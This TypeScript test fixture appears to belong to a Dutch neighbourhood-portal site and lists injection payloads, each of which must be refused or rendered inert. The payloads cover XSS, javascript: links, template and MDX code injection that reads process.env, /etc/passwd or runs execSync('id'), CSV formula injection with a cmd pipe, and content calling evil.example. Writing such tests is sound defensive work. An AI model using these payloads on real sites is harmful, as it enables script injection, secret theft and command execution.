/**
 * Payload families: text an attacker with write access to content could put anywhere.
 * Every payload is tried in every place (see places.ts); it must be refused with a Dutch
 * message, or end up as inert text in every output.
 *
 * `literal`: when the payload is accepted in a text field that the site shows, the page
 * text must contain it character for character (proof that it was escaped, not parsed).
 * Off for payloads whose characters the site may legitimately drop or normalise.
 */
export const CANARY_ENV = 'WIJKPORTAAL_CANARY';
export const SECRET_ENV = 'DEPLOY_TOKEN';
/** A line of /etc/passwd: it must never reach the output. */
export const PASSWD_MARK = 'root:x:0:0';

export interface Payload {
	id: string;
	family: string;
	text: string;
	literal: boolean;
	/** Only whole-value checks: a payload that is refused anywhere it stands needs no "after the own text" round. */
	replaceOnly: boolean;
}

type Family = { family: string; literal?: boolean; replaceOnly?: boolean; payloads: Record<string, string> };

const EVIL = 'https://evil.example';

const FAMILIES: Family[] = [
	{
		family: 'script',
		payloads: {
			'script-tag': '<script>alert(1)</script>',
			'script-close-open': '</script><script>alert(1)</script>',
			'script-src': `<ScRiPt src=${EVIL}/x.js></ScRiPt>`,
			'script-svg': '<svg><script>alert(1)</script></svg>',
			'script-template': '<template><script>alert(1)</script></template>',
			'script-noscript-mxss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
		},
	},
	{
		family: 'event-handler',
		payloads: {
			'img-onerror': '<img src=x onerror=alert(1)>',
			'img-onerror-next-line': '<img src=x\nonerror=alert(1)>',
			'svg-onload': '<svg onload=alert(1)>',
			'details-ontoggle': '<details open ontoggle=alert(1)>x</details>',
			'input-autofocus': '<input autofocus onfocus=alert(1)>',
			'a-onclick': '<a href="#" onclick="alert(1)">klik</a>',
		},
	},
	{
		family: 'link-scheme',
		payloads: {
			'md-javascript': '[klik](javascript:alert(1))',
			'md-javascript-mixed-case': '[klik](JaVaScRiPt:alert(1))',
			'md-javascript-entity': '[klik](&#106;avascript:alert(1))',
			'md-javascript-leading-space': '[klik]( javascript:alert(1))',
			'md-javascript-colon-entity': '[klik](javascript&colon;alert(1))',
			'md-data-html': '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
			'md-vbscript': '[klik](vbscript:msgbox(1))',
			'md-autolink-javascript': '<javascript:alert(1)>',
			'md-reference-javascript': '[klik][r]\n\n[r]: javascript:alert(1)',
			'md-title-breaker': `[klik](${EVIL}/ "x\\" onmouseover=\\"alert(1)")`,
			'a-javascript': '<a href="javascript:alert(1)">klik</a>',
			'a-javascript-mixed-case': '<a href="JaVaScRiPt:alert(1)">klik</a>',
			'a-javascript-entity': '<a href="&#106;avascript:alert(1)">klik</a>',
			'a-javascript-leading-space': '<a href=" javascript:alert(1)">klik</a>',
			'a-javascript-tab': '<a href="java\tscript:alert(1)">klik</a>',
			'a-data-html': '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
			'bare-javascript': 'javascript:alert(1)',
			'bare-javascript-mixed-case': 'JaVaScRiPt:alert(1)',
			'bare-javascript-leading-space': ' javascript:alert(1)',
			'bare-data-html': 'data:text/html,<script>alert(1)</script>',
			'bare-protocol-relative': '//evil.example/x',
		},
	},
	{
		family: 'document-takeover',
		payloads: {
			'meta-refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
			'meta-csp': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
			base: `<base href="${EVIL}/">`,
			'style-element': `<style>body{background:url(${EVIL}/x.png)}</style>`,
			'style-attribute': `<p style="background:url(${EVIL}/x.png)">x</p>`,
			'link-stylesheet': `<link rel=stylesheet href=${EVIL}/x.css>`,
			form: `<form action=${EVIL}><input name=q><button>Verstuur</button></form>`,
			formaction: `<button formaction=${EVIL}>Verstuur</button>`,
			'custom-island': `<wijk-kaart data-gebieden="${EVIL}/x.json"></wijk-kaart>`,
		},
	},
	{
		family: 'foreign-markup',
		payloads: {
			'math-xlink': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
			'svg-a-xlink': '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
			'svg-animate-href':
				'<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
			iframe: `<iframe src="${EVIL}"></iframe>`,
			'iframe-srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
			object: `<object data="${EVIL}/x.swf"></object>`,
			embed: `<embed src="${EVIL}/x.swf">`,
			'img-foreign': `<img src="${EVIL}/x.png" alt="x">`,
			'img-srcset': `<img srcset="${EVIL}/x.png 1x" alt="x">`,
			'md-image-foreign': `![x](${EVIL}/x.png)`,
		},
	},
	{
		family: 'attribute-breaker',
		payloads: {
			quotes: `"'><script>alert(1)</script>`,
			'double-quote-handler': '" onmouseover="alert(1)',
			'single-quote-handler': "' onfocus='alert(1)' autofocus='",
			'title-breaker': '</title><script>alert(1)</script>',
			'textarea-breaker': '</textarea><script>alert(1)</script>',
			'comment-breaker': '--><script>alert(1)</script><!--',
			'cdata-breaker': ']]><script>alert(1)</script><![CDATA[',
			'json-breaker': '"}]</script><script>alert(1)</script>',
			'escaped-markup': '&lt;script&gt;alert(1)&lt;/script&gt;',
			'url-encoded-markup': '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
		},
	},
	{
		family: 'template',
		payloads: {
			mustache: '{{7*7}}',
			'js-template': '${7*7}',
			'jsx-env': `{process.env.${CANARY_ENV}}`,
			'mustache-constructor': "{{constructor.constructor('alert(1)')()}}",
			erb: '<%= 7*7 %>',
			'ruby-interpolation': '#{7*7}',
			'shell-env': `$${CANARY_ENV} \${${SECRET_ENV}} %${CANARY_ENV}%`,
			'import-meta-env': `{import.meta.env.${CANARY_ENV}}`,
			ssi: '<!--#exec cmd="id"-->',
			php: "<?php system('id'); ?>",
		},
	},
	{
		family: 'mdx-code',
		payloads: {
			'import-fs': "import fs from 'node:fs'\n\n{fs.readFileSync('/etc/passwd','utf8')}",
			'export-const': `export const x = process.env.${CANARY_ENV}\n\n{x}`,
			'stringify-env': '{JSON.stringify(process.env)}',
			'constructor-process': `{(() => {}).constructor('return process')().env.${CANARY_ENV}}`,
			'child-process': "import { execSync } from 'node:child_process'\n\n{execSync('id').toString()}",
			'expression-attribute': `<Kader titel={process.env.${CANARY_ENV}}>x</Kader>`,
			'event-prop': '<Kader titel="x" onClick={() => alert(1)}>x</Kader>',
			'spread-html': "<div {...{dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}}} />",
			'set-html': '<Fragment set:html="<script>alert(1)</script>" />',
			'unknown-component': '<Script>alert(1)</Script>',
		},
	},
	{
		family: 'csv-formula',
		payloads: {
			hyperlink: `=HYPERLINK("${EVIL}";"Klik hier")`,
			plus: '+1+1',
			'minus-cmd': "-2+3+cmd|' /C notepad'!A0",
			at: '@SUM(1)',
			tab: '\t=1+1',
			'carriage-return': '\r=1+1',
			'cell-breaker': 'Naam;=1+1',
			'quote-breaker': '"\n=1+1;"',
		},
	},
	{
		family: 'path',
		payloads: {
			'etc-passwd': '/etc/passwd',
			traversal: '../../../etc/passwd',
			'proc-environ': '/proc/self/environ',
			'file-url': 'file:///etc/passwd',
		},
	},
	{
		family: 'control',
		literal: false,
		replaceOnly: true,
		payloads: {
			nul: 'a\u0000b',
			'bidi-override': '\u202Egnp.exe',
			'ansi-escape': '\u001b[31mrood\u001b[0m',
			'line-separator': 'a\u2028b\u2029c',
			bell: 'a\u0007b',
		},
	},
	{
		family: 'size',
		replaceOnly: true,
		payloads: {
			'long-line': 'Lange regel '.repeat(1000).trim(),
			'long-text': 'Lange tekst '.repeat(650).trim(),
			'long-name': 'Lange naam '.repeat(30).trim(),
		},
	},
];

export const PAYLOADS: Payload[] = FAMILIES.flatMap(({ family, literal = true, replaceOnly = false, payloads }) =>
	Object.entries(payloads).map(([id, text]) => ({ id: `${family}/${id}`, family, text, literal, replaceOnly })),
);
